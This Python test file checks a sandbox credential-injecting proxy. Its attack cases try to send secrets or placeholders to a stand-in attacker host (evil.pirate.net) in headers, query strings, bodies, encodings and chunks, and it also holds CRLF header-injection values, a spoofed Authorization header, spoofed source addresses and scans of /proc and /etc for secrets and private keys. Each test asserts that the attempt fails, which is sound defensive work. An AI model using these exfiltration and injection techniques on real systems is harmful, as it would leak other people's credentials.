"""C4, C5, C10 and D1 to D12: credentials that the sandbox uses and never has."""
import base64
import gzip
import json
import os
import pathlib
import urllib.parse

from attacks import attack, limited
from world import API, DOWNLOADS, EVIL, PAY

HELLO = b"GET /hello HTTP/1.1\r\nHost: api.harbour.com\r\n%sConnection: close\r\n\r\n"


# C4, C5: getting rid of the injected header, or keeping one's own ---------------------------------
@attack("C4", each={"authorization": b"Connection: authorization\r\n",
                    "key": b"Connection: close, x-api-key\r\n",
                    "both": b"Connection: x-api-key, authorization, host\r\n",
                    "proxy": b"Proxy-Connection: authorization\r\n"})
def hop_by_hop(field, header):
    """What the proxy adds is not the client's to remove."""
    field.policy(field.credentialed())
    field.run('got["answer"] = to("api.harbour.com", REQUEST, 2)', REQUEST=HELLO % header)
    sight = field.seen()
    for request in sight.requests(API):
        table = dict(request["headers"])
        assert table.get("authorization") == f"Bearer {field.secrets['alpha']}", request
        assert "host" in table and table.get("x-api-key") == field.secrets["alpha"], request


@attack("C5", each={"underscore": b"X_Api_Key: mine\r\n", "case": b"x-API-kEY: mine\r\n",
                    "twice": b"X-Api-Key: mine\r\nX-Api-Key: mine\r\n",
                    "space": b"X-Api-Key : mine\r\n", "folded": b"X: y\r\n X-Api-Key: mine\r\n",
                    "authorization": b"Authorization: Bearer mine\r\n",
                    "mixed": b"X-Api_Key: mine\r\nx_api-key: mine\r\n"})
def own_copy_of_an_injected_header(field, header):
    field.policy(field.credentialed())
    field.run('got["answer"] = to("api.harbour.com", REQUEST, 2)', REQUEST=HELLO % header)
    for request in field.seen().requests(API):
        for name, value in request["headers"]:
            if name.replace("_", "-").strip() in ("x-api-key", "authorization"):
                assert "mine" not in value, request
        names = [name.replace("_", "-") for name, _ in request["headers"]]
        assert names.count("x-api-key") == 1 and names.count("authorization") == 1, request


@attack("C10")
def placeholder_in_trailers(field):
    field.policy(field.credentialed())
    field.run("""
        body = b"5\\r\\nhello\\r\\n0\\r\\nX-Trailer: " + BETA + b"\\r\\n\\r\\n"
        got["pay"] = to("pay.harbour.com", b"POST /hello HTTP/1.1\\r\\nHost: pay.harbour.com\\r\\nTrailer: X-Trailer\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + body, 2)
        got["evil"] = to("evil.pirate.net", b"POST /hello HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + body, 2)
    """, BETA=field.placeholder("beta"))
    sight = field.seen()
    assert not [each for each in sight.requests()
                if field.secrets["beta"] in json.dumps(each.get("trailers", ""))]
    assert not sight.heard(field.secrets["beta"], EVIL)


# D1: a placeholder to a host that it is not for ---------------------------------------------------
def request_to(host, *, target=b"/hello", headers=b"", body=b""):
    length = b"Content-Length: %d\r\n" % len(body) if body else b""
    return (b"POST " if body else b"GET ") + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + \
        headers + length + b"Connection: close\r\n\r\n" + body


PLACES = {
    "header": {"headers": b"X-Key: %s\r\n"}, "bearer": {"headers": b"Authorization: Bearer %s\r\n"},
    "query": {"target": b"/hello?key=%s"}, "path": {"target": b"/%s/x"},
    "cookie": {"headers": b"Cookie: a=b; key=%s\r\n"}, "body": {"body": b"key=%s&x=y"},
    "json": {"headers": b"Content-Type: application/json\r\n", "body": b'{"key":"%s"}'},
    "user-agent": {"headers": b"User-Agent: %s\r\n"}, "header-name": {"headers": b"%s: x\r\n"},
}


def placed(host, place, value):
    return request_to(host, **{part: text.replace(b"%s", value) for part, text in place.items()})


@attack("D1", each=PLACES)
def placeholder_to_another_host(field, place):
    """It is of no use there; that somebody tried is stopped and noted."""
    field.policy(field.credentialed())
    value = field.placeholder("beta")
    field.run('got["answer"] = to("evil.pirate.net", REQUEST, 2)',
              REQUEST=placed(b"evil.pirate.net", place, value))
    sight = field.seen()
    assert not sight.heard(field.secrets["beta"]), "the value went out"
    assert not sight.heard(value, EVIL), "the placeholder was passed on"


@attack("D1", each={"http2-header": ("GET", "x-key"), "http2-path": ("GET", None),
                    "http2-body": ("POST", None)})
def placeholder_to_another_host_in_http2(field, case):
    method, header = case
    field.policy(field.credentialed())
    field.run("""
        h = H2(EVIL, "evil.pirate.net")
        more = [(HEADER, BETA)] if HEADER else []
        path = "/hello" if HEADER or METHOD == "POST" else "/" + BETA
        h.get(1, "evil.pirate.net", path, METHOD, more, end=METHOD == "GET")
        if METHOD == "POST":
            h.data(1, BETA[:9].encode(), end=False)
            h.data(1, BETA[9:].encode())
        got["answers"] = h.collect(2)
    """, METHOD=method, HEADER=header, BETA=field.placeholder("beta").decode())
    sight = field.seen()
    assert not sight.heard(field.secrets["beta"]) and not sight.heard(field.placeholder("beta"))


@attack("D1")
def placeholder_in_names(field):
    """Server names and DNS labels are never substituted."""
    field.policy({**limited("*.pirate.net", "pay.harbour.com", **field.credential_parts()),
                  "credentialBindings": field.bindings()})
    field.run("""
        name = BETA.replace("_", "-").lower() + ".pirate.net"
        ask(name), ask(BETA + ".pirate.net")
        got["sni"] = https(EVIL, name, b"GET / HTTP/1.0\\r\\n\\r\\n", 443, 1)
    """, BETA=field.placeholder("beta").decode())
    assert not field.seen().heard(field.secrets["beta"])


@attack("D1")
def placeholder_in_plain_http(field):
    """Over a wire that anybody reads nothing is substituted."""
    field.policy(field.credentialed())
    field.run("""
        got["pay"] = tcp(PAY, 80, b"GET /hello HTTP/1.1\\r\\nHost: pay.harbour.com\\r\\nX-Key: " + BETA + b"\\r\\n\\r\\n", 1)
        got["api"] = tcp(API, 80, b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\n\\r\\n", 1)
    """, BETA=field.placeholder("beta"))
    sight = field.seen()
    assert not sight.heard(field.secrets["beta"]) and not sight.heard(field.secrets["alpha"])


# D2: one credential's placeholder to the other's host ---------------------------------------------
@attack("D2", each={"header": PLACES["header"], "query": PLACES["query"], "body": PLACES["body"]})
def placeholder_of_another_credential(field, place):
    field.policy(field.credentialed())
    field.run("""
        got["gamma"] = to("pay.harbour.com", FIRST, 2)
        got["beta"] = to("files.harbour.com", SECOND, 2)
    """, FIRST=placed(b"pay.harbour.com", place, field.placeholder("gamma")),
        SECOND=placed(b"files.harbour.com", place, field.placeholder("beta")))
    sight = field.seen()
    assert not sight.heard(field.secrets["gamma"], PAY)
    assert not sight.heard(field.secrets["beta"], DOWNLOADS)


@attack("D2")
def header_credential_at_another_host(field):
    """What is injected for one host goes to that host, however the other is addressed."""
    field.policy(field.credentialed())
    field.run("""
        got["host"] = https(EVIL, "evil.pirate.net", b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n")
        got["sni"] = https(EVIL, "api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\nConnection: close\\r\\n\\r\\n")
        got["absolute"] = to("api.harbour.com", b"GET https://evil.pirate.net/ HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\n\\r\\n")
    """)
    assert not field.seen().heard(field.secrets["alpha"], EVIL, PAY, DOWNLOADS)


# D3: in pieces, encoded, doubled ------------------------------------------------------------------
def pieces(value):
    return {
        "writes": [b"POST /hello HTTP/1.1\r\nHost: evil.pirate.net\r\nContent-Length: %d\r\n\r\n"
                   % len(value), value[:5], value[5:11], value[11:]],
        "chunks": [b"POST /hello HTTP/1.1\r\nHost: evil.pirate.net\r\n"
                   b"Transfer-Encoding: chunked\r\n\r\n",
                   *(b"1\r\n" + value[at:at + 1] + b"\r\n" for at in range(len(value))),
                   b"0\r\n\r\n"],
        "header-writes": [b"GET /hello HTTP/1.1\r\nHost: evil.pirate.net\r\nX: ", value[:7],
                          value[7:], b"\r\n\r\n"],
    }


@attack("D3", each={"writes": "writes", "chunks": "chunks", "header-writes": "header-writes"})
def placeholder_in_pieces(field, how):
    field.policy(field.credentialed())
    value = field.placeholder("beta")
    field.run("""
        try:
            sock = tls(EVIL, 443, "evil.pirate.net", ["http/1.1"])
            for piece in PIECES:
                sock.sendall(piece)
                time.sleep(0.02)
            got["answer"] = read(sock, 1.5)
        except OSError as error:
            got["error"] = str(error)
    """, PIECES=pieces(value)[how])
    sight = field.seen()
    bodies = "".join(request["body"] for request in sight.requests(EVIL))
    assert value.decode() not in bodies + json.dumps(sight.headers("x", EVIL))
    assert not sight.heard(field.secrets["beta"])


ENCODINGS = {
    "percent": lambda value: b"".join(b"%%%02x" % each for each in value),
    "base64": base64.b64encode,
    "json": lambda value: b"".join(b"\\u%04x" % each for each in value),
    "basic": lambda value: base64.b64encode(b"user:" + value),
    "doubled": lambda value: value + value,
    "nested": lambda value: value[:9] + value + value[9:],
    "reversed": lambda value: value[::-1],
    "upper": bytes.upper,
}


@attack("D3", each={name: name for name in ENCODINGS})
def encoded_placeholder_to_another_host(field, encoding):
    """In whatever spelling: the value never goes there."""
    field.policy(field.credentialed())
    value = ENCODINGS[encoding](field.placeholder("beta"))
    field.run("""
        got["header"] = to("evil.pirate.net", FIRST, 1.5)
        got["body"] = to("evil.pirate.net", SECOND, 1.5)
    """, FIRST=placed(b"evil.pirate.net", {"headers": b"Authorization: Basic %s\r\n"}, value),
        SECOND=placed(b"evil.pirate.net", {"body": b'{"a":"%s"}'}, value))
    sight = field.seen()
    secret = field.secrets["beta"]
    for form in (secret, base64.b64encode(b"user:" + secret.encode()).decode(),
                 urllib.parse.quote(secret)):
        assert not sight.heard(form), form
    if encoding in ("doubled", "nested"):
        assert not sight.heard(field.placeholder("beta")), "the placeholder was passed on"


@attack("D3")
def compressed_body(field):
    """A body that cannot be read is not substituted into, and does not carry the value elsewhere."""
    field.policy(field.credentialed())
    body = gzip.compress(b"key=" + field.placeholder("beta"))
    field.run("""
        for name in ("pay.harbour.com", "evil.pirate.net"):
            got[name] = to(name, b"POST /hello HTTP/1.1\\r\\nHost: " + name.encode() + b"\\r\\nContent-Encoding: gzip\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(BODY) + BODY, 1.5)
    """, BODY=body)
    assert not field.seen().heard(field.secrets["beta"])


# D4, D5: the allowed host gives it back -----------------------------------------------------------
@attack("D4", each={"plain": b"/echo", "gzip-offered": b"/echo?z"})
def reflected_header(field, path):
    field.policy(field.credentialed(redact=True))
    got = field.run("""
        got["h1"] = to("api.harbour.com", b"GET " + PATH + b" HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nAccept-Encoding: gzip, br\\r\\nConnection: close\\r\\n\\r\\n", 2)
        h = H2(API, "api.harbour.com")
        h.get(1, "api.harbour.com", PATH.decode())
        got["h2"] = h.collect(2)
    """, PATH=path)
    assert field.secrets["alpha"] not in json.dumps(got)


@attack("D4", each={
    "split": lambda s: b"".join(b"1\r\n%c\r\n" % each for each in s) + b"0\r\n\r\n",
    "base64": lambda s: b"%x\r\n%s\r\n0\r\n\r\n" % (len(base64.b64encode(s)), base64.b64encode(s)),
    "url": lambda s: b"%x\r\n%s\r\n0\r\n\r\n" % (len(s) + 4, b"key=" + s),
    "trailer": lambda s: b"0\r\nX-Token: " + s + b"\r\n\r\n"})
def reflected_in_other_forms(field, make):
    secret = field.secrets["alpha"].encode()
    field.policy(field.credentialed(redact=True))
    field.names(at={API: "old"}, answers={"/reflect":
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Token\r\n\r\n" + make(secret)})
    got = field.run("""
        got["answer"] = to("api.harbour.com", b"GET /reflect HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)
    """)
    text = got["answer"]["data"]
    # Read as a client would: without the chunk framing.
    whole = "".join(text.split("\r\n\r\n", 1)[-1].split("\r\n")[1::2]) + text
    assert secret.decode() not in whole
    assert base64.b64encode(secret).decode() not in whole


@attack("D4")
def reflected_in_an_error(field):
    secret = field.secrets["alpha"].encode()
    field.policy(field.credentialed(redact=True))
    body = b'{"error":"invalid token ' + secret + b'"}'
    field.names(at={API: "old"}, answers={"/reflect":
        b"HTTP/1.1 401 Bearer " + secret + b"\r\nWWW-Authenticate: Bearer error=\"" + secret +
        b"\"\r\nContent-Length: %d\r\n\r\n" % len(body) + body})
    field.run("""
        got["answer"] = to("api.harbour.com", b"GET /reflect HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)
    """)  # secrets_kept looks at what came back


@attack("D5")
def redirect_to_another_host(field):
    """The proxy follows nothing; the client's own second request gets nothing."""
    field.policy(field.credentialed())
    done = field.sandbox.run(
        ["curl", "-sk", "-m", "8", "-L", "--location-trusted", "-H", "Authorization: Bearer x",
         "https://api.harbour.com/redirect?to=https://evil.pirate.net/hello"], user="root")
    field.output += done["stdout"]
    sight = field.seen()
    assert not sight.heard(field.secrets["alpha"], EVIL)
    assert not [each for each in sight.requests(EVIL) if each["target"] != "/hello"]


@attack("D5")
def credential_for_some_paths_only(field):
    """An allowed host with content of other people: the rule names the paths that get it."""
    policy = field.credentialed()
    policy["egress"]["credentialRules"][0]["httpMatch"] = {"methods": ["GET"],
                                                          "pathPrefixes": ["/v1/"]}
    field.policy(policy)
    field.run("""
        for path in (b"/gist/upload", b"/v1/../gist", b"/v1/%2e%2e/gist", b"//v1/x", b"/V1/x", b"/v1x"):
            got[path.decode()] = to("api.harbour.com", b"GET " + path + b" HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 1)
        got["post"] = to("api.harbour.com", b"POST /v1/x HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n", 1)
    """)
    for request in field.seen().requests(API):
        assert request["target"].startswith("/v1/") and request["method"] == "GET" or \
            field.secrets["alpha"] not in json.dumps(request), request


# D6: one's own account at the allowed host --------------------------------------------------------
@attack("D6")
def own_authorization(field):
    field.policy(field.credentialed())
    field.run("""
        got["h1"] = to("api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nAuthorization: Bearer stolen-account\\r\\nauthorization: Basic c3RvbGVu\\r\\nConnection: close\\r\\n\\r\\n", 2)
        h = H2(API, "api.harbour.com")
        h.get(1, "api.harbour.com", more=[("authorization", "Bearer stolen-account")])
        got["h2"] = h.collect(2)
    """)
    for value in field.seen().headers("authorization", API):
        assert value == f"Bearer {field.secrets['alpha']}", value


# D7: a value that is more than a value ------------------------------------------------------------
@attack("D7", each={"crlf": "x\r\nX-Injected: yes", "lf": "x\nX-Injected: yes", "nul": "x\0y",
                    "request": "x\r\n\r\nGET /secret HTTP/1.1\r\nHost: api.harbour.com\r\n\r\n"})
def header_injection_by_the_value(field, value):
    field.source("odd", value)
    field.policy(field.credentialed(alpha="odd"))
    field.run("""
        got["h1"] = to("api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)
    """)
    sight = field.no_request(path="/secret")
    assert not sight.headers("x-injected")
    assert not sight.requests(API), "an unusable credential fails closed"


# D8: what a placeholder gives away ----------------------------------------------------------------
@attack("D8")
def length_of_the_value(field):
    """What the client sees of a substituted request does not depend on the value's length."""
    answers = []
    for value in ("short", "x" * 200):
        field.source("sized", value)
        field.policy(field.credentialed(alpha="sized"))
        got = field.run("""
            got["answer"] = to("api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)
        """)
        lines = got["answer"]["data"].split("\r\n")
        answers.append([line for line in lines if not line.lower().startswith("date")])
    assert answers[0] == answers[1]


# D9: where else it could be -----------------------------------------------------------------------
@attack("D9")
def secrets_in_logs_and_processes(field):
    """After all this: no log, process argument, environment or answer of the API has a value."""
    field.policy(field.credentialed())
    field.run("""
        got["answer"] = to("api.harbour.com", b"GET /hello?token=x HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)
        got["wrong"] = to("evil.pirate.net", b"GET /hello HTTP/1.1\\r\\nHost: evil.pirate.net\\r\\nX: " + BETA + b"\\r\\nConnection: close\\r\\n\\r\\n", 2)
    """, BETA=field.placeholder("beta"))
    texts = {"log": pathlib.Path(field.server.log_path).read_bytes()}
    for pid in field.server.note_pids():
        for name in ("cmdline", "environ"):
            try:
                texts[f"{pid} {name}"] = pathlib.Path(f"/proc/{pid}/{name}").read_bytes()
            except OSError:
                pass
    client = field.server.client
    for path in (f"{field.sandbox.path}/network", f"{field.sandbox.path}/network/flows",
                 "/api/v1/credential-sources", "/api/v1/credential-sources/alpha",
                 field.sandbox.path):
        texts[path] = client.call("GET", path).body
    for where, text in texts.items():
        for secret in field.secrets.values():
            assert secret.encode() not in text, where
            assert base64.b64encode(secret.encode())[:-3] not in text, where


@attack("D9")
def secrets_in_the_data_directory(field):
    """At rest the values are encrypted: nowhere in the data directory are they readable."""
    for top, directories, files in os.walk(field.server.data_dir):
        # Not into the sandboxes' own file systems: those are the next attack's.
        directories[:] = [each for each in directories
                          if not os.path.ismount(os.path.join(top, each))]
        for name in files:
            path = pathlib.Path(top, name)
            if path.is_file() and path.stat().st_size < 64 << 20 and not path.is_symlink():
                content = path.read_bytes()
                for secret in field.secrets.values():
                    assert secret.encode() not in content, path


@attack("D9")
def secrets_inside_the_sandbox(field):
    """Files, environments and memory of the sandbox, as its root sees them."""
    field.policy(field.credentialed())
    # The needle is spelled in a way that does not find itself.
    needles = [secret[:-1] for secret in field.secrets.values()]
    got = field.run("""
        import glob
        needles = [bytes(each) for each in NEEDLES]
        texts = {}
        for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + \\
                glob.glob("/etc/**", recursive=True) + glob.glob("/run/**", recursive=True) + glob.glob("/tmp/**", recursive=True):
            try:
                if os.path.isfile(name) and str(os.getpid()) not in name:
                    texts[name] = open(name, "rb").read(1 << 20)
            except OSError:
                pass
        got["found"] = [name for name, text in texts.items() for each in needles if each in text]
        got["read"] = len(texts)
    """, NEEDLES=[list(each.encode()) for each in needles])
    assert got["read"] > 20 and not got["found"], got


# D10: rotation and revocation ---------------------------------------------------------------------
@attack("D10")
def old_value_after_rotation(field):
    field.source("turning", "value-before")
    field.policy(field.credentialed(alpha="turning"))
    get = 'got["a"] = to("api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)'
    field.run(get)
    assert field.seen().heard("value-before", API), "the credential works at all"
    field.source("turning", "value-after")
    field.world.clear()
    field.run(get)
    sight = field.seen()
    assert not sight.heard("value-before") and sight.heard("value-after", API)


@attack("D10")
def old_value_on_an_open_connection(field):
    """Also the next request of a connection that is already there."""
    field.source("turning", "value-before")
    field.policy(field.credentialed(alpha="turning"))
    context = field.start("""
        sock = tls(API, 443, "api.harbour.com", ["http/1.1"])
        sock.sendall(b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\n\\r\\n")
        got["first"] = sock.recv(4096).decode("latin-1")
        open("/tmp/first-done", "w").close()
        while not os.path.exists("/tmp/go-on"):
            time.sleep(0.02)
        try:
            sock.sendall(b"GET /later HTTP/1.1\\r\\nHost: api.harbour.com\\r\\n\\r\\n")
            got["second"] = read(sock, 1.5)
        except OSError as error:
            got["second"] = str(error)
        os.unlink("/tmp/first-done"), os.unlink("/tmp/go-on")
    """)
    field.wait_for_file("/tmp/first-done")
    field.source("turning", "value-after")
    field.sandbox.write("/tmp/go-on", b"")
    field.finish(context)
    for request in field.seen().requests(API):
        if request["target"] == "/later":
            assert "value-before" not in json.dumps(request), request


@attack("D10")
def credential_taken_away(field):
    field.policy(field.credentialed())
    without = field.credentialed()
    without["egress"]["credentialRules"], without["credentialBindings"] = [], []
    field.policy(without)
    field.run("""
        got["a"] = to("api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)
        got["b"] = to("pay.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: pay.harbour.com\\r\\nX: " + BETA + b"\\r\\nConnection: close\\r\\n\\r\\n", 2)
    """, BETA=field.placeholder("beta"))
    sight = field.seen()
    assert not [secret for secret in field.secrets.values() if sight.heard(secret)]


# D11: somebody else's -----------------------------------------------------------------------------
@attack("D11")
def placeholder_of_another_sandbox(field):
    """A neighbour has the same rules and no binding: its placeholder is a word."""
    field.policy(field.credentialed())
    other = field.other()
    other.policy(limited("pay.harbour.com", "api.harbour.com"))
    other.run("""
        for name in ("pay.harbour.com", "api.harbour.com"):
            got[name] = to(name, b"GET /hello HTTP/1.1\\r\\nHost: " + name.encode() + b"\\r\\nX: " + BETA + b"\\r\\nConnection: close\\r\\n\\r\\n", 2)
    """, BETA=field.placeholder("beta"))
    sight = field.seen()
    assert not [secret for secret in field.secrets.values() if sight.heard(secret)]


@attack("D11")
def fork_uses_the_parents_credentials(field):
    """A copy of a sandbox is somebody else: bindings are not copied."""
    field.policy(field.credentialed())
    child = field.fork()
    child.run("""
        got["a"] = to("api.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: api.harbour.com\\r\\nConnection: close\\r\\n\\r\\n", 2)
        got["b"] = to("pay.harbour.com", b"GET /hello HTTP/1.1\\r\\nHost: pay.harbour.com\\r\\nX: " + BETA + b"\\r\\nConnection: close\\r\\n\\r\\n", 2)
    """, BETA=field.placeholder("beta"))
    sight = field.seen()
    assert not [secret for secret in field.secrets.values() if sight.heard(secret)]


@attack("D11")
def spoofed_source_address(field):
    """Who a connection belongs to is not read from its packets."""
    field.policy(limited("evil.pirate.net"))
    other = field.other()
    other.policy(limited("api.harbour.com"))
    other.run("""
        for source in ("10.200.0.3", "10.200.0.2", "5.5.1.10", "127.0.0.1"):
            try:
                sock = socket.socket()
                sock.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
                sock.bind((source, 0))
                sock.settimeout(1)
                sock.connect((EVIL, 443))
                sock.sendall(hello(server_name(b"evil.pirate.net")))
                got[source] = read(sock, 1)
            except OSError as error:
                got[source] = str(error)
    """)
    field.unreached(EVIL)


# D12: the authority -------------------------------------------------------------------------------
@attack("D12")
def key_of_the_authority(field):
    """Its certificate is everywhere in the sandbox, its key nowhere."""
    field.policy(field.credentialed())
    field.run('got["a"] = to("api.harbour.com", b"GET /hello HTTP/1.0\\r\\nHost: api.harbour.com\\r\\n\\r\\n", 2)')
    done = field.sandbox.run("grep -rlE 'BEGIN (EC |RSA )?PRIVATE KEY' / --include=* -s "
                             "--exclude-dir=proc --exclude-dir=sys 2>/dev/null | "
                             "grep -vE '/usr/(lib|share|local)|/opt/attacker' || true", user="root",
                             timeout_ms=120_000)
    keys = [line for line in done["stdout"].splitlines() if line]
    assert not keys, keys


@attack("D12")
def authority_of_another_sandbox(field):
    """Each has its own: what is signed for one is a stranger's to the other."""
    field.policy(field.credentialed())
    other = field.other()
    other.policy(field.credentialed(only_rules=True))
    show = """
        import hashlib
        made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
        sock = made.wrap_socket(connect(API, 443), server_hostname="api.harbour.com")
        der = sock.getpeercert(True)
        got["leaf"] = ssl.DER_cert_to_PEM_cert(der)
    """
    mine, theirs = field.run(show)["leaf"], other.run(show)["leaf"]
    assert mine != theirs
    got = other.run("""
        import subprocess
        open("/tmp/leaf.pem", "w").write(LEAF)
        bundle = os.environ.get("SSL_CERT_FILE", "/etc/ssl/certs/ca-certificates.crt")
        got["verify"] = subprocess.run(["openssl", "verify", "-CAfile", bundle, "/tmp/leaf.pem"], capture_output=True, text=True).stdout
        open("/tmp/own.pem", "w").write(OWN)
        got["control"] = subprocess.run(["openssl", "verify", "-CAfile", bundle, "/tmp/own.pem"], capture_output=True, text=True).stdout
    """, LEAF=mine, OWN=theirs)
    assert "OK" not in got["verify"], got
